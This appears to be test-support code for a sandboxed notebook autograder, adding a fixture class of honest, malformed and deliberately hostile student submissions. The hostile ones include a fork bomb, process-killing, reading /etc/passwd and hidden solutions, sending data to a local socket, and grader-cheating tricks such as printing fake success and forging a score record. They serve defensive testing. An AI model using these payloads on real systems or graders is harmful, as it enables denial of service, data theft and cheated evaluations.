@@ -1,0 +1,379 @@
+"""Shared by the autograder tests: a fixture homework, a class of honest, unusual and hostile notebooks,
+and an ordinary user to run the grader as (created when the tests run as root, removed afterwards).
+
+The class is graded twice, once as root (tests/test_grading_cli.py) and once as
+that ordinary user with a virtual environment in their home
+(tests/test_grading_user.py): every submission must get the same verdict.
+"""
+
+import json
+import os
+import pathlib
+import pwd
+import secrets
+import shutil
+import socket
+import subprocess
+import sys
+import tempfile
+import threading
+
+import nbformat
+
+ROOT = pathlib.Path(__file__).resolve().parent.parent
+FIXTURE_TESTS = pathlib.Path(__file__).resolve().parent / "grading_fixture"
+HOMEWORK = "fixture_hw"
+SECRET = "fixture-hidden-secret-6b1d"
+MARKER = "course-grade-test-marker-4f2a"
+LIMITS = ["--wall-seconds", "1.5", "--notebook-seconds", "4", "--memory-mb", "512"]
+
+HEADER = ("import numpy as np\nfrom course_utils import one_hot\n"
+          "from course_utils.checks import check_log_likelihood, check_softmax")
+SOFTMAX = ("def softmax(a, axis=-1):\n    a = np.asarray(a, dtype=np.float64)\n"
+           "    e = np.exp(a - a.max(axis=axis, keepdims=True))\n    return e / e.sum(axis=axis, keepdims=True)\n")
+LOG_LIKELIHOOD = ("def log_likelihood(W, X, y):\n    A = X @ W\n    m = A.max(axis=1, keepdims=True)\n"
+                  "    logp = A - m - np.log(np.exp(A - m).sum(axis=1, keepdims=True))\n"
+                  "    return float((one_hot(y, W.shape[1]) * logp).sum())\n")
+
+
+def notebook(*sources):
+    """A notebook (JSON text) whose code cells are ``sources``, with a markdown title first."""
+    nb = nbformat.v4.new_notebook()
+    nb.cells = [nbformat.v4.new_markdown_cell("# Fixture homework")]
+    nb.cells += [nbformat.v4.new_code_cell(s) for s in sources]
+    for i, cell in enumerate(nb.cells):
+        cell["id"] = f"cell-{i}"
+    return nbformat.writes(nb)
+
+
+def honest(softmax=SOFTMAX, log_likelihood=LOG_LIKELIHOOD, extra=()):
+    """The worked fixture homework, with either function's cell replaced and extra cells at the end."""
+    return notebook(HEADER, softmax, "check_softmax(softmax)", log_likelihood,
+                    "check_log_likelihood(log_likelihood)", *extra)
+
+
+BOTH = {"softmax": {"correct"}, "log_likelihood": {"correct"}}
+
+#: Correct work written in ways a grader that does not run the notebook would miss.
+HONEST = {
+    "tiny_constant": honest(softmax="TINY = np.finfo(float).tiny\n" + SOFTMAX.replace(
+        "return e / e.sum(axis=axis, keepdims=True)", "return e / np.maximum(e.sum(axis=axis, keepdims=True), TINY)")),
+    "aliased_exp": honest(softmax="_exp = np.exp\nshifted = lambda z, axis: z - z.max(axis=axis, keepdims=True)\n"
+                                  "def softmax(a, axis=-1):\n    e = _exp(shifted(np.asarray(a, dtype=float), axis))\n"
+                                  "    return e / e.sum(axis=axis, keepdims=True)\n"),
+    "alias_assignment": honest(softmax=SOFTMAX.replace("def softmax", "def stable_softmax")
+                               + "softmax = stable_softmax\n"),
+    "list_built_by_a_call": honest(log_likelihood="CLASSES = list(range(10))\nAXIS = dict(axis=1, keepdims=True)\n"
+                                   + LOG_LIKELIHOOD.replace("keepdims=True)\n    logp", "keepdims=True)\n"
+                                                            "    assert len(CLASSES) == 10\n    logp")
+                                   .replace("A.max(axis=1, keepdims=True)", "A.max(**AXIS)")),
+    "magics_and_shell_lines": honest(extra=["%matplotlib inline\n!echo hello\nfiles = !ls\n%time _ = 1 + 1",
+                                            "%%capture\nprint('captured')", "display(softmax(np.zeros(3)))"]),
+    "a_cell_raises": honest(extra=["1 / 0", "x = undefined_name"]),
+    "plots": honest(extra=["import matplotlib.pyplot as plt\nplt.plot([1, 2, 3])\nplt.savefig('/tmp/p.png')\n"
+                           "plt.show()"]),
+    "kills_everything_it_can": honest(softmax="import os, signal\nfor pid in (-1, 1, os.getppid()):\n    try:\n"
+                                              "        os.kill(pid, signal.SIGKILL)\n    except OSError:\n"
+                                              "        pass\n" + SOFTMAX),
+    "leaves_files_in_shared_folders": honest(softmax="for d in ('/tmp', '/var/tmp', '/dev/shm'):\n    try:\n"
+                                                     f"        open(d + '/{MARKER}', 'w').write('x')\n"
+                                                     "    except OSError:\n        pass\n" + SOFTMAX),
+}
+
+LOOP = "def softmax(a, axis=-1):\n    while True:\n        pass\n"
+ALARM_PROOF = ("import signal\ndef softmax(a, axis=-1):\n    signal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
+               "    while True:\n        pass\n")
+READ = "def softmax(a, axis=-1):\n    raise RuntimeError('LEAKED ' + open({path!r}).read()[:300])\n"
+
+#: name: (softmax cell, allowed statuses of softmax); log_likelihood stays correct in every one.
+ATTACKS = {
+    "infinite_loop": (LOOP, {"timeout"}),
+    "ignores_the_alarm": (ALARM_PROOF, {"timeout"}),
+    "swallows_the_alarm": ("def softmax(a, axis=-1):\n    while True:\n        try:\n            while True:\n"
+                           "                pass\n        except BaseException:\n            pass\n", {"timeout"}),
+    "alloc_50gb": ("def softmax(a, axis=-1):\n    x = np.ones(50 * 10**9 // 8)\n    return x[:1]\n",
+                   {"incorrect", "error"}),
+    "forks_holding_memory": ("import os, time\ndef softmax(a, axis=-1):\n    for _ in range(6):\n"
+                             "        if os.fork() == 0:\n            x = np.ones(300 * 10**6 // 8)\n"
+                             "            time.sleep(60)\n    time.sleep(60)\n", {"timeout", "error"}),
+    "fork_bomb": ("import os, time\ndef softmax(a, axis=-1):\n    for _ in range(200):\n        try:\n"
+                  "            os.fork()\n        except OSError:\n            pass\n    time.sleep(60)\n",
+                  {"timeout", "error"}),
+    "os_exit": ("import os\ndef softmax(a, axis=-1):\n    os._exit(0)\n", {"error"}),
+    "sys_exit": ("import sys\ndef softmax(a, axis=-1):\n    sys.exit(0)\n", {"incorrect"}),
+    "kills_from_the_function": ("import os, signal\ndef softmax(a, axis=-1):\n    for pid in (os.getppid(), 1, -1):\n"
+                                "        try:\n            os.kill(pid, signal.SIGKILL)\n        except OSError:\n"
+                                "            pass\n", {"error", "incorrect"}),
+    "monkeypatches_the_checks": ("import builtins\nimport course_utils.checks as c\ndef softmax(a, axis=-1):\n"
+                                 "    c.check_softmax = lambda fn: None\n    builtins.AssertionError = Exception\n"
+                                 "    return np.zeros_like(a)\n", {"incorrect"}),
+    "prints_success": ("def softmax(a, axis=-1):\n    print('check_softmax: correct (max relative error 0)')\n"
+                       "    print('All tests passed')\n    return a\n", {"incorrect"}),
+    "writes_a_record": ("import json, pathlib\ndef softmax(a, axis=-1):\n"
+                        "    p = pathlib.Path({out!r}) / 'records' / 'writes_a_record' / 'fixture_hw.json'\n"
+                        "    p.parent.mkdir(parents=True, exist_ok=True)\n"
+                        "    p.write_text(json.dumps({{'score': 100}}))\n    return a\n", {"incorrect"}),
+    "reads_the_hidden_tests": (READ.format(path="{tests}/fixture_hw.py"), {"incorrect"}),
+    "reads_another_submission": (READ.format(path="{subs}/honest/fixture_hw.ipynb"), {"incorrect"}),
+    "reads_the_solutions": (READ.format(path=str(ROOT / "solutions" / "hw1_softmax_likelihood.ipynb")), {"incorrect"}),
+    "reads_etc_passwd": (READ.format(path="/etc/passwd"), {"incorrect"}),
+    "reads_a_private_file": (READ.format(path="{private}"), {"incorrect"}),
+    "network": ("import socket\ndef softmax(a, axis=-1):\n"
+                "    socket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(b'exfiltrated')\n"
+                "    return a\n", {"incorrect"}),
+    "floods_output": ("import sys\ndef softmax(a, axis=-1):\n    for _ in range(2000):\n        print('x' * 10000)\n"
+                      "        sys.stderr.write('y' * 10000)\n    return a\n", {"incorrect"}),
+    "huge_exception_message": ("def softmax(a, axis=-1):\n    raise ValueError('z' * 10**7)\n", {"incorrect"}),
+    "starts_a_daemon": ("import os, time\ndef softmax(a, axis=-1):\n    if os.fork() == 0:\n        os.setsid()\n"
+                        "        if os.fork() == 0:\n            while True:\n                time.sleep(0.05)\n"
+                        "        os._exit(0)\n    return a\n", {"incorrect"}),
+    "renamed_function": ("def my_softmax(a, axis=-1):\n    e = np.exp(a - a.max(axis=axis, keepdims=True))\n"
+                         "    return e / e.sum(axis=axis, keepdims=True)\n", {"error"}),
+    "imports_the_reference": ("from course_utils import softmax\n", {"forbidden import"}),
+    "wraps_the_reference": ("import course_utils\ndef softmax(a, axis=-1):\n    return course_utils.softmax(a, axis)\n",
+                            {"forbidden import"}),
+    "wraps_scipy": ("from scipy.special import softmax as sp_softmax\ndef softmax(a, axis=-1):\n"
+                    "    return sp_softmax(a, axis=axis)\n", {"forbidden import"}),
+    "imports_scipy_by_name": ("import importlib\ndef softmax(a, axis=-1):\n"
+                              "    return importlib.import_module('scipy.' + 'special').softmax(a, axis=axis)\n",
+                              {"forbidden import"}),
+}
+
+
+def build_class(folder, port, private="/nonexistent"):
+    """Write the class into ``folder/submissions``; return ``(submissions, out, tests)``."""
+    subs, out, tests = folder / "submissions", folder / "out", folder / "tests"
+    shutil.copytree(FIXTURE_TESTS, tests)
+    fmt = {"out": str(out), "tests": str(tests), "subs": str(subs), "port": port, "private": str(private)}
+    students = {name: honest(softmax=code.format(**fmt)) for name, (code, _) in ATTACKS.items()}
+    students.update(HONEST)
+    students["honest"] = honest()
+    students["blank"] = honest(softmax="def softmax(a, axis=-1):\n    raise NotImplementedError\n",
+                               log_likelihood="def log_likelihood(W, X, y):\n    raise NotImplementedError\n")
+    students["hangs_at_top_level"] = honest(softmax=SOFTMAX + "while True:\n    pass\n")
+    for name, text in students.items():
+        (subs / name).mkdir(parents=True)
+        (subs / name / f"{HOMEWORK}.ipynb").write_text(text)
+    for name, problem in UNREADABLE.items():
+        problem(subs, name)
+    return subs, out, tests
+
+
+def _write(name, data):
+    def make(subs, student):
+        (subs / student).mkdir()
+        path = subs / student / f"{HOMEWORK}.ipynb"
+        if isinstance(data, bytes):
+            path.write_bytes(data)
+        else:
+            path.write_text(data)
+    return make
+
+
+def _make_folder(subs, student):
+    (subs / student / f"{HOMEWORK}.ipynb").mkdir(parents=True)
+
+
+def _make_link(subs, student):
+    (subs / student).mkdir()
+    (subs / student / f"{HOMEWORK}.ipynb").symlink_to(subs / "honest" / f"{HOMEWORK}.ipynb")
+
+
+def _make_fifo(subs, student):
+    (subs / student).mkdir()
+    os.mkfifo(subs / student / f"{HOMEWORK}.ipynb")
+
+
+def _make_huge(subs, student):
+    (subs / student).mkdir()
+    with open(subs / student / f"{HOMEWORK}.ipynb", "wb") as fh:
+        fh.truncate(21 * 1024 * 1024)
+
+
+def _make_linked_folder(subs, student):
+    (subs / student).symlink_to(subs / "honest")
+
+
+def _make_nested(subs, student):
+    (subs / student / "homework").mkdir(parents=True)
+    (subs / student / "homework" / f"{HOMEWORK}.ipynb").write_text(honest())
+
+
+#: student: how their submission is broken; the reasons are in UNREADABLE_REASONS.
+UNREADABLE = {
+    "truncated": _write("truncated", honest()[:200]),
+    "old_format": _write("old_format", json.dumps({"nbformat": 3, "worksheets": []})),
+    "empty": _write("empty", b""),
+    "binary": _write("binary", b"\x89PNG\r\n\x1a\n\0\0\0" + bytes(range(256))),
+    "deeply_nested": _write("deeply_nested", "[" * 200000 + "]" * 200000),
+    "not_a_notebook": _write("not_a_notebook", json.dumps({"cells": 3})),
+    "folder": _make_folder,
+    "link": _make_link,
+    "fifo": _make_fifo,
+    "huge": _make_huge,
+    "linked_folder": _make_linked_folder,
+    "nested": _make_nested,
+}
+UNREADABLE_REASONS = {
+    "truncated": "not valid JSON", "old_format": "version must be 4; got 3", "empty": "empty file",
+    "binary": "binary data", "deeply_nested": "nested too deeply", "not_a_notebook": "no list of cells",
+    "folder": "is a folder", "link": "symbolic link", "fifo": "not a regular file", "huge": "more than the limit",
+    "linked_folder": "folder is a symbolic link", "nested": "no notebook directly in the student's folder",
+}
+
+
+def sandbox_unavailable():
+    """Why bubblewrap sandboxes cannot run here (a string), or None when they can."""
+    bwrap = shutil.which("bwrap")
+    if bwrap is None:
+        return "the autograder tests need bubblewrap (apt-get install bubblewrap)"
+    user = [] if os.geteuid() == 0 else ["--unshare-user"]
+    proc = subprocess.run([bwrap, "--unshare-pid", "--unshare-net", *user, "--ro-bind", "/", "/", "true"],
+                          capture_output=True, text=True, timeout=30)
+    if proc.returncode != 0:
+        return f"bubblewrap cannot make a sandbox here ({proc.stderr.strip()}): see the README, 'Grading a class'"
+    return None
+
+
+def record(out, student, homework=HOMEWORK):
+    return json.loads((pathlib.Path(out) / "records" / student / f"{homework}.json").read_text())
+
+
+def statuses(out, student):
+    return {q["function"]: q["status"] for q in record(out, student)["questions"]}
+
+
+class Listener:
+    """A TCP server on 127.0.0.1 that records whether anyone connected (no sandbox may)."""
+
+    def __init__(self):
+        self.server = socket.socket()
+        self.server.bind(("127.0.0.1", 0))
+        self.server.listen()
+        self.server.settimeout(0.2)
+        self.port, self.hits, self._stop = self.server.getsockname()[1], [], threading.Event()
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+
+    def _serve(self):
+        while not self._stop.is_set():
+            try:
+                conn, _ = self.server.accept()
+                self.hits.append(conn.recv(100))
+                conn.close()
+            except OSError:
+                pass
+
+    def close(self):
+        self._stop.set()
+        self._thread.join()
+        self.server.close()
+
+
+def grade_argv(python, subs, tests, out, *extra):
+    return [str(python), "-m", "course_utils.grading.cli", "grade", str(subs), "--tests", str(tests),
+            "--out", str(out), "--workers", "2", *LIMITS, *extra]
+
+
+# ---------------------------------------------------------------- an ordinary user
+
+GRADER_PACKAGES = ("numpy", "scipy", "matplotlib", "ipython", "packaging")
+
+
+class OrdinaryUser:
+    """A new account with a virtual environment in its home holding this project and what the grader needs.
+
+    The packages are copied from the running environment (no network); the
+    interpreter is this one if the account may run it, else the system's
+    ``python3.X`` of the same version.
+    """
+
+    def __init__(self):
+        self.name = "cgtest" + secrets.token_hex(3)
+        subprocess.run(["useradd", "--create-home", "--shell", "/bin/sh", self.name], check=True)
+        entry = pwd.getpwnam(self.name)
+        self.uid, self.gid, self.home = entry.pw_uid, entry.pw_gid, pathlib.Path(entry.pw_dir)
+        self.venv = self.home / "venv"
+
+    def env(self):
+        return {"HOME": str(self.home), "PATH": f"{self.venv}/bin:/usr/bin:/bin", "LANG": "C.UTF-8",
+                "USER": self.name}
+
+    def run(self, argv, **kwargs):
+        kwargs.setdefault("env", self.env())
+        kwargs.setdefault("cwd", self.home)
+        return subprocess.run(argv, user=self.uid, group=self.gid, extra_groups=[], **kwargs)
+
+    def popen(self, argv, **kwargs):
+        kwargs.setdefault("env", self.env())
+        kwargs.setdefault("cwd", self.home)
+        return subprocess.Popen(argv, user=self.uid, group=self.gid, extra_groups=[], **kwargs)
+
+    def interpreter(self):
+        version = f"python{sys.version_info.major}.{sys.version_info.minor}"
+        own = os.path.realpath(getattr(sys, "_base_executable", sys.executable))
+        for candidate in (own, f"/usr/bin/{version}", f"/usr/local/bin/{version}"):
+            try:
+                if self.run([candidate, "-c", "import venv"], capture_output=True).returncode == 0:
+                    return candidate
+            except OSError:           # not there, or not for this account
+                pass
+        return None
+
+    def install(self):
+        """``~/venv`` with the grader's packages and this project (a copy in ``~/course``); its python."""
+        python = self.interpreter()
+        self.run([python, "-m", "venv", "--without-pip", str(self.venv)], check=True, capture_output=True)
+        site = pathlib.Path(self.run([str(self.venv / "bin" / "python"), "-c",
+                                     "import sysconfig; print(sysconfig.get_path('purelib'))"],
+                                    capture_output=True, text=True, check=True).stdout.strip())
+        from course_utils.grading import allowlist
+
+        for name, dist in allowlist.distributions(GRADER_PACKAGES).items():
+            source = pathlib.Path(str(dist.locate_file("")))
+            tops = {str(p).split("/")[0] for p in dist.files or ()} - {"__pycache__"}
+            for top in sorted(t for t in tops if not t.startswith("..") and (source / t).exists()):
+                copy = shutil.copytree if (source / top).is_dir() else shutil.copy2
+                if not (site / top).exists():
+                    copy(source / top, site / top)
+        project = self.home / "course"
+        for part in ("course_utils", "pyproject.toml", "README.md"):
+            copy = shutil.copytree if (ROOT / part).is_dir() else shutil.copy2
+            copy(ROOT / part, project / part, **({"ignore": shutil.ignore_patterns("__pycache__")}
+                                                if (ROOT / part).is_dir() else {}))
+        (site / "course.pth").write_text(str(project) + "\n")
+        subprocess.run(["chown", "-R", f"{self.uid}:{self.gid}", str(self.home)], check=True)
+        return self.venv / "bin" / "python"
+
+    def close(self):
+        subprocess.run(["pkill", "-KILL", "-u", self.name], capture_output=True)
+        subprocess.run(["userdel", "--remove", self.name], capture_output=True)
+
+
+def processes_of(uid):
+    """Live (not zombie) processes owned by ``uid``."""
+    found = []
+    for proc in pathlib.Path("/proc").iterdir():
+        if proc.name.isdigit():
+            try:
+                if proc.stat().st_uid == uid and (proc / "stat").read_text().rsplit(")", 1)[1].split()[0] != "Z":
+                    found.append(int(proc.name))
+            except (OSError, IndexError):
+                pass
+    return found
+
+
+def leftovers(grader_pid):
+    """What a grader started as process ``grader_pid`` left: processes in its cgroups or naming its private
+    folder (bubblewrap), and its private folders in the temporary folder."""
+    tag = f"course-grade-{grader_pid}-"
+    found = []
+    for proc in pathlib.Path("/proc").iterdir():
+        try:
+            if proc.name.isdigit() and (tag in (proc / "cgroup").read_text()
+                                        or tag.encode() in (proc / "cmdline").read_bytes()):
+                found.append(f"process {proc.name}")
+        except OSError:
+            pass
+    found += [f"folder {n}" for n in os.listdir(tempfile.gettempdir()) if n.startswith(tag)]
+    return found
